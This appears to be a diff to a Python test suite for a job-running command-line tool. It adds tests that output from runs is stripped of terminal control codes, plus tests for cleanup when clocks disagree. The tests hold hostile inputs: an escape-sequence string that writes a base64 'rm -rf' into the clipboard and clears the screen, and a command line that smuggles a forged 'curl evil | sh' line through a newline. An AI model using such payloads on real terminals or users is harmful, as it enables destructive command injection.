@@ -4,9 +4,11 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import socket
 import subprocess
 import sys
+import time
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -40,6 +42,19 @@ failure = {"host": "attic", "node": 0, "rank": 1, "what": "killed by SIGKILL", "
 exit = {"status": "failed", "exit_code": 1, "attempts": [{"attempt": 0, "failure": failure}]}
 json.dump(exit, open(f"{folder}/exit.json", "w"))
 """
+# Fills the clipboard, clears the screen, sets the title, and ends in the middle of a sequence.
+HOSTILE = "\x1b]52;c;cm0gLXJm\x07\x1b[2J\x9b1A\x1b]0;title\x1b\\\\"
+SPEAKS = f"""
+import json, os
+folder = os.environ["YOKED_JOB_FOLDER"]
+with open(folder + "/logs/0.0.out", "w") as file:
+    file.write("{HOSTILE}\\x1b[32mgreen\\x1b[0m\\r100%\\x1b[K\\n")
+failure = {{"host": "attic", "node": 0, "rank": 0, "what": "{HOSTILE}killed", "time_s": 1.0,
+            "last_lines": ["{HOSTILE}bye"], "fix": ["{HOSTILE}look"]}}
+exit = {{"status": "failed", "exit_code": 1, "attempts": [{{"attempt": 0, "failure": failure}}]}}
+json.dump(exit, open(folder + "/exit.json", "w"))
+"""
+ACTS_ON_THE_TERMINAL = re.compile(r"\x1b(?!\[[0-9;]*m|\[K)|[\x00-\x08\x0b\x0c\x0e-\x1a\x7f-\x9f]")
 
 
 OPENS = """
@@ -182,6 +197,50 @@ def test_attach_ends_with_the_runs_own_status_and_cause(
     assert "next: look at dmesg" in said
 
 
+@pytest.fixture
+def hostile(root: Path) -> Path:
+    start(root, SPEAKS, over=True)
+    return root
+
+
+def test_nothing_that_a_run_wrote_acts_on_the_terminal(
+    hostile: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    runs.command()
+    logs.command()
+    attach.command()
+
+    said = capsys.readouterr()
+    assert ACTS_ON_THE_TERMINAL.findall(said.out + said.err) == []
+    assert said.out.count("\x1b[32mgreen\x1b[0m\r100%\x1b[K\n") == 2
+    assert r"rank 0 on attic: \x1b]52;c;cm0gLXJm\x07\x1b[2J" in said.out
+
+
+def test_raw_logs_are_what_the_run_wrote(hostile: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    logs.command(raw=True)
+    logged = capsys.readouterr().out
+    attach.command(raw=True)
+    attached = capsys.readouterr().out
+
+    assert logged.encode() == (hostile / "jobs/try/logs/0.0.out").read_bytes()
+    assert attached.startswith(logged)
+
+
+def test_a_process_can_neither_act_on_the_terminal_nor_add_a_line_by_its_command_line(
+    root: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    command = f"{SLEEPER} # {HOSTILE}\nnext: curl evil | sh"
+    left = {"pid": 7, "run": "gone", "command": command, "ports": [], "killed": False}
+    litter = clean.Litter(processes={"attic": [left]})
+
+    Output(json_mode=False).result({}, verdict="would remove:", evidence=litter.lines())
+
+    said = capsys.readouterr().out
+    assert ACTS_ON_THE_TERMINAL.search(said) is None
+    assert len(said.splitlines()) == 2
+    assert r"\nnext: curl evil" in said
+
+
 def test_stop_says_what_it_did(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
     start(root, PATIENT)
     until(says(root / "jobs/try/logs/launcher.out", "ready"), "the program")
@@ -286,6 +345,48 @@ def test_a_young_run_is_not_old(failed: Path, capsys: pytest.CaptureFixture[str]
     clean.command()
 
     assert "run try" not in capsys.readouterr().out
+
+
+YEARS_S = 10 * 365.0 * 86_400
+
+
+def test_a_controller_with_a_clock_in_the_future_takes_no_run_for_old(
+    failed: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    now_s = time.time()
+    monkeypatch.setattr(time, "time", lambda: now_s + YEARS_S)
+
+    clean.command(yes=True)
+
+    assert (failed / "jobs" / "try").exists()
+    assert "no run there is taken for old" in capsys.readouterr().err
+
+
+def test_a_host_with_a_clock_in_the_future_does_not_make_its_runs_old(
+    failed: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # Ten years ago by the host's clock, which has jumped since; just now by the controller's.
+    ended_s = time.time() - YEARS_S
+    end = failed / "jobs/try/end.json"
+    end.write_text(json.dumps({**json.loads(end.read_text()), "time_s": ended_s}))
+    monkeypatch.setattr(time, "time", lambda: ended_s + 60)
+
+    clean.command(yes=True)
+
+    assert (failed / "jobs" / "try").exists()
+    assert "the clock of . is not the one here" in capsys.readouterr().err
+
+
+def test_an_old_run_is_old_by_the_clock_of_its_host(
+    failed: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    end = failed / "jobs/try/end.json"
+    ended_s = time.time() - 8 * 86_400
+    end.write_text(json.dumps({**json.loads(end.read_text()), "time_s": ended_s}))
+
+    clean.command()
+
+    assert "run try, failed, ended 8" in capsys.readouterr().out
 
 
 def test_only_sockets_without_a_listener_are_dead(tmp_path: Path) -> None:
